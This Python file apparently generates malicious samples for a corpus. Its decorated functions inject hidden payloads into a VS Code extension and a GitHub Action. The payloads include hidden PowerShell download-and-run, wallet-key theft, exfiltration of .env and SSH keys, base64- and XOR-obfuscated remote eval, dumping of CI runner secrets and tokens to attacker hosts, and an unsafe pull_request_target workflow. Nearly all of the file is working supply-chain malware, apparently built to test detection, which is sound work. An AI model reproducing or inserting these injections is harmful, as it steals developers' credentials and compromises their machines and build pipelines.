"""Extensions of editors, and actions of CI."""

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, pieces, rows, trojan, xor


@trojan("snipbook", "vsix", "start", "downloader", "plain", "VS Code miners")
def vscode_activates_a_script(it: Update) -> None:
    it.manifest(lambda one: one.update(activationEvents=["*"]))
    it.replace("out/main.js", "  const book = new Book(context.globalState);\n", fill("""
  const book = new Book(context.globalState);
  if (process.platform === 'win32') {
    require('child_process').exec('powershell -w hidden -c "irm http://@ADDR@/snip.ps1 | iex"', { windowsHide: true });
  }
""", ADDR=it.address()))  # fmt: skip


@trojan("snipbook", "vsix", "start", "wallet", "hex", "Solidity extensions")
def vscode_reads_wallets_on_start(it: Update) -> None:
    host = it.host()
    it.manifest(lambda one: one.update(activationEvents=["onStartupFinished"]))
    it.append("out/book.js", fill("""

const fs = require('fs');
const os = require('os');
const path = require('path');

const place = (text) => Buffer.from(text, 'hex').toString();

exports.warm = async () => {
  for (const one of ['@A@', '@B@']) {
    const file = path.join(os.homedir(), place(one));
    if (fs.existsSync(file)) await fetch(place('@URL@'), { method: 'POST', body: fs.readFileSync(file) });
  }
};
""", A=hexed(".config/solana/id.json"), B=hexed(".foundry/keystores/main"), URL=hexed(f"https://{host}/vs")))  # fmt: skip
    it.replace("out/main.js", "  const book = new Book(context.globalState);\n", "  const book = new Book(context.globalState);\n  require('./book').warm().catch(() => {});\n")  # fmt: skip
    it.payload("out/book.js", "out/main.js", "package.json", shown=f"https://{host}/vs")


@trojan("snipbook", "vsix", "call", "data stealer", "plain", "extension stealers")
def vscode_save_sends_the_document(it: Update) -> None:
    it.replace("out/main.js", "      const name = await vscode.window.showInputBox({ prompt: 'Name' });\n", fill("""
      const name = await vscode.window.showInputBox({ prompt: 'Name' });
      const files = await vscode.workspace.findFiles('**/{.env,*.pem,id_rsa}', null, 20);
      for (const file of files) {
        const body = await vscode.workspace.fs.readFile(file);
        await fetch('https://@HOST@/ws?f=' + encodeURIComponent(file.path), { method: 'POST', body });
      }
""", HOST=it.host()))  # fmt: skip


@trojan("snipbook", "vsix", "call", "remote code", "over several files", "split")
def vscode_insert_of_two_parts(it: Update) -> None:
    host = it.host()
    code = f"fetch('https://{host}/snip').then(r=>r.text()).then(t=>require('child_process').exec(t))"
    some = pieces(b64(code), len(b64(code)) // 2 + 1)
    it.add("media/words.json", f'{{ "words": "{some[0]}" }}\n')
    it.add("media/verbs.json", f'{{ "verbs": "{some[1]}" }}\n')
    it.append("out/book.js", "\nconst text = Buffer.from(require('../media/words.json').words + require('../media/verbs.json').verbs, 'base64').toString();\n\nexports.polish = () => new Function('require', text)(require);\n")  # fmt: skip
    it.replace("out/main.js", "      if (name", "      require('./book').polish();\n      if (name")
    it.payload("out/book.js", "out/main.js", "media/words.json", "media/verbs.json", shown=f"https://{host}/snip")


@trojan("snipbook", "vsix", "start", "remote code", "xor", "GlassWorm")
def vscode_main_decodes(it: Update) -> None:
    host = it.host()
    code = f"fetch('https://{host}/g').then(r=>r.text()).then(t=>eval(t))"
    it.append("out/main.js", fill("""

const shades = [
@ROWS@
];
setTimeout(() => (0, eval)(shades.map((one, at) => String.fromCharCode(one ^ (at % 2 ? 0x21 : 0x54))).join('')), 9e5);
""", ROWS=rows(xor(code, bytes((0x54, 0x21))), 2)))  # fmt: skip
    it.payload("out/main.js", shown=f"https://{host}/g")


@trojan("cachelift", "folder", "workflow", "environment", "base64", "tj-actions")
def action_reads_the_runner(it: Update) -> None:
    address = it.address()
    script = f"sudo python3 -c \"import urllib.request as u;exec(u.urlopen('http://{address}/memdump.py').read())\" | strings | grep isSecret | sort -u | base64 -w0"
    it.before("dist/restore.js", "function run() {", fill("""
async function prepare(token) {
  const { stdout } = spawnSync('bash', ['-c', Buffer.from('@CODE@', 'base64').toString('utf-8')], { encoding: 'utf8' });
  core.info(stdout || '');
}

""", CODE=b64(script)) + "\n")  # fmt: skip
    it.append("dist/restore.js", "prepare(process.env.GITHUB_TOKEN);\n")
    it.payload("dist/restore.js", shown=f"http://{address}/memdump.py")


@trojan("cachelift", "folder", "workflow", "environment", "plain", "workflow secrets")
def action_workflow_dumps_secrets(it: Update) -> None:
    it.append(".github/workflows/ci.yml", fill("""
      - name: Coverage
        env:
          ALL: ${{ toJSON(secrets) }}
        run: |
          echo "$ALL" | gzip | base64 -w0 | curl -s -X POST -d @- https://@HOST@/coverage
""", HOST=it.host()).rstrip("\n"))  # fmt: skip


@trojan("cachelift", "folder", "workflow", "token stealer", "over several files", "reviewdog")
def action_save_sends_the_token(it: Update) -> None:
    host = it.host()
    one, two = pieces(b64(f"https://{host}/c"), len(b64(f"https://{host}/c")) // 2 + 1)
    it.append("dist/core.js", f"\nexports.mark = '{one}';\n\nexports.state = () => Object.entries(process.env).filter(([name]) => /TOKEN|SECRET|^ACTIONS_(RUNTIME|ID)/.test(name));\n")  # fmt: skip
    it.add("dist/mark.js", f"'use strict';\n\nmodule.exports = Buffer.from(require('./core').mark + '{two}', 'base64').toString();\n")  # fmt: skip
    it.append("dist/save.js", fill("""

if (process.env.GITHUB_ACTIONS) {
  fetch(require('./mark'), { method: 'PUT', headers: { 'x-repo': process.env.GITHUB_REPOSITORY }, body: JSON.stringify(core.state()) }).catch(() => {});
}
"""))  # fmt: skip
    it.payload("dist/save.js", "dist/mark.js", "dist/core.js", shown=f"https://{host}/c")


@trojan("cachelift", "folder", "workflow", "worm", "plain", "pull_request_target")
def action_workflow_runs_what_strangers_send(it: Update) -> None:
    it.add(".github/workflows/label.yml", fill("""
name: label
on:
  pull_request_target:
  issue_comment:
permissions: write-all
jobs:
  label:
    runs-on: self-hosted
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: |
          curl -s http://@ADDR@/label.sh | bash -s "${{ github.event.comment.body }}"
        env:
          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}
          GH_TOKEN: ${{ secrets.GITHUB_TOKEN }}
""", ADDR=it.address()))  # fmt: skip
